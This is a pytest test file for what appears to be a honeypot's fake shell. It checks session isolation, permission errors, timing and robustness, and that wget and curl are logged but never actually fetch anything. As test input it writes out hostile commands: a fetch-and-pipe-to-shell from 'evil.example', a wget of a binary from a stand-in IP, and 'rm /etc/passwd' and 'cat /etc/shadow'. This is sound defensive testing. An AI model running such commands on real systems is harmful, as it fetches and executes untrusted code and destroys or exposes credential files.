"""A fake shell session: its own changes, what it records, how long it takes, and hostile input.

Changes (mkdir, touch, rm, chmod, `>`) stay in the session that made them; wget and curl
record the URL as a `download` event and fetch nothing; the time the real tools would take
comes back as pauses, which the telnet edge (sans-IO here) turns into its `delay`.
"""

from __future__ import annotations

import pytest

from dynapot.events import CATALOGUE, Kind
from dynapot.services.contract import ConnectionInfo
from dynapot.services.fakefs import MAX_CHANGES
from dynapot.services.identity import identity_for
from dynapot.services.shell import MAX_OUTPUT, RESOLVER_WAIT, FakeShell, paced
from dynapot.services.telnet import TelnetConfig, TelnetSession

NOW = 1_700_000_000.0


def shell(user: str = "root", address: str = "198.18.4.10") -> FakeShell:
    return FakeShell(identity_for(address, "Linux 5.4"), user, peer="198.18.0.3", clock=lambda: NOW)


def test_changes_are_the_sessions_own() -> None:
    one, other = shell(), shell()
    assert (
        one.execute("mkdir -p /tmp/.x/y && cd /tmp/.x && touch a && echo hi > b && chmod 755 a; ls -la") != ""
    )
    assert one.execute("cat /tmp/.x/b") == "hi\n" and one.execute("echo more >> b; cat b") == "hi\nmore\n"
    assert one.execute("ls -l /tmp/.x/a").startswith("-rwxr-xr-x 1 root root 0 Nov 14 22:13 /tmp/.x/a")
    assert other.execute("ls /tmp/.x") == "ls: cannot access '/tmp/.x': No such file or directory\n"
    assert other.status == 2
    one.execute("rm -rf /tmp/.x")
    assert one.execute("cd /tmp/.x") == "-bash: cd: /tmp/.x: No such file or directory\n"
    one.execute("rm /etc/passwd")
    assert one.execute("cat /etc/passwd") == "cat: /etc/passwd: No such file or directory\n"
    assert other.execute("cat /etc/passwd").startswith("root:x:0:0:")  # the machine's own file is intact


def test_permissions_hold_for_a_user() -> None:
    sh = shell(user="guest")
    assert sh.execute("touch /etc/x") == "touch: cannot touch '/etc/x': Permission denied\n"
    assert sh.execute("echo x > /etc/passwd") == "-bash: /etc/passwd: Permission denied\n"
    assert sh.execute("cat /etc/shadow") == "cat: /etc/shadow: Permission denied\n"
    assert sh.execute("rm /etc/hostname") == "rm: cannot remove '/etc/hostname': Permission denied\n"
    assert sh.execute("cd /root") == "-bash: cd: /root: Permission denied\n"
    assert sh.execute("touch ~/mine; ls ~") == "mine\n"  # the login's own home
    assert sh.execute("id").startswith("uid=") and "guest" in sh.execute("cat /etc/passwd")


def test_wget_and_curl_are_recorded_never_fetched() -> None:
    sh = shell()
    out = sh.execute(
        "cd /tmp; wget http://203.0.113.5:8080/bins/x86 -O x; curl -s https://evil.example/a.sh | sh"
    )
    # the real tools take time: the rtt of a refusal, the resolver's timeout for a name
    # (and each program its start: a few milliseconds, the host's own)
    pieces = paced(sh, out)
    assert "".join(p for p, _ in pieces) == out
    text = ""
    waits = []
    for piece, wait in pieces:
        text += piece
        waits.append((text, wait))
    refused = [w for t, w in waits if t.endswith("Connecting to 203.0.113.5:8080... ")]
    assert len(refused) == 1 and 0.02 <= refused[0] <= 0.2
    assert [w for t, w in waits if t.endswith("http://203.0.113.5:8080/bins/x86\n")] == []
    assert [w for _, w in waits if w >= 1] == [RESOLVER_WAIT]  # curl resolving evil.example
    starts = [w for _, w in waits if w and w not in refused and w != RESOLVER_WAIT]
    assert len(starts) == 2 and all(0.003 <= w <= 0.008 for w in starts)  # wget's and curl's start
    assert sh.execute("cd /tmp") == "" and sh.pauses == []  # a builtin: no program started
    events = sh.take_events()
    assert [e[0] for e in events] == [Kind.DOWNLOAD, Kind.DOWNLOAD]
    assert events[0][1:] == (
        "http://203.0.113.5:8080/bins/x86",
        {"tool": "wget", "url": "http://203.0.113.5:8080/bins/x86", "host": "203.0.113.5", "port": 8080},
    )
    assert events[1][2] == {
        "tool": "curl",
        "url": "https://evil.example/a.sh",
        "host": "evil.example",
        "port": 443,
    }
    assert set(events[0][2]) <= set(CATALOGUE[Kind.DOWNLOAD].data)
    assert "Connecting to 203.0.113.5:8080... failed: Connection refused.\n" in out
    assert out.endswith("curl: (6) Could not resolve host: evil.example\n")  # and sh ran nothing
    assert sh.execute("ls /tmp") == ""  # nothing was saved
    assert sh.take_events() == []  # taken once


def test_pauses_are_bounded_and_sleep_is_one() -> None:
    sh = shell()
    sh.execute("sleep 2; sleep 1000; sleep 5")
    assert [s for _, s in sh.pauses] == [2.0, 28.0]  # at most MAX_PAUSE per line
    sh.execute("echo quick")
    assert sh.pauses == []


def test_telnet_sends_the_output_after_the_pause() -> None:
    info = ConnectionInfo("tcp", "198.18.0.3", 40000, "198.18.4.11", 23, "Linux 5.4", "t")
    session = TelnetSession(info, TelnetConfig(fail_delay=0, negotiation_wait=0))
    session.start()
    session.receive(b"root\r\n")
    session.receive(b"root\r\n")
    assert session.authenticated
    out = session.receive(b"wget http://bad.example/x\r\n")
    assert b"Resolving bad.example (bad.example)... " in out.send and b"failed" not in out.send
    assert RESOLVER_WAIT < out.delay < RESOLVER_WAIT + 0.02  # the resolver, and wget's start
    assert b"failed: Temporary failure" in out.later
    assert out.later.endswith(session.shell.prompt().encode())
    assert [e[0] for e in out.events] == [Kind.COMMAND, Kind.DOWNLOAD]
    ps = session.receive(b"ps aux\r\n")
    assert ps.send == b"ps aux\r\n" and 0.009 <= ps.delay <= 0.024  # the echo; ps takes its time
    assert b"/usr/sbin/in.telnetd" in ps.later  # the session's own processes


@pytest.mark.parametrize(
    "line",
    [
        "echo 'unterminated",
        'echo "$(echo "$(echo "$(echo "$(echo deep)")")")"',
        "$(" * 200,
        "echo ${",
        "cat < /nonexistent",
        "echo > ",
        "\x00\x1b[31m\xff;;;&&||| |",
        "printf '%s%s%s%s' " + "x " * 500,
        "A=" + "x" * 100_000,
        "echo " + "$HOME" * 5000,
        "ls " + "/" * 10_000,
        "cat " + "/etc/passwd " * 2000,
        "mkdir -p " + "/tmp/" + "a/" * 5000,
        "mkdir -p /tmp/"
        + "a/" * 2040
        + "; rm -rf /tmp/a; mkdir -p /tmp/"
        + "b/" * 2040
        + "; ls -la /tmp/"
        + "b/" * 1000,
        'sh -c \'sh -c "sh -c \\"sh -c uname\\""\'',
    ],
)
def test_hostile_lines_never_crash_and_stay_bounded(line: str) -> None:
    sh = shell()
    out = sh.execute(line)
    assert isinstance(out, str) and len(out) <= MAX_OUTPUT
    if sh.prompt() == "> ":  # bash waits for the rest of the quote: ^C ends that
        sh.interrupt()
    assert sh.execute("echo still here") == "still here\n"


def test_a_session_cannot_grow_without_bound() -> None:
    sh = shell()
    for n in range(MAX_CHANGES + 50):
        sh.fs.put(f"/tmp/f{n}", sh.fs.get("/etc/hostname"))
    assert len(sh.fs.changed) == MAX_CHANGES
    assert sh.execute("touch /tmp/one-more; ls /tmp/one-more") == (
        "touch: cannot touch '/tmp/one-more': No space left on device\n"
        "ls: cannot access '/tmp/one-more': No such file or directory\n"
    )
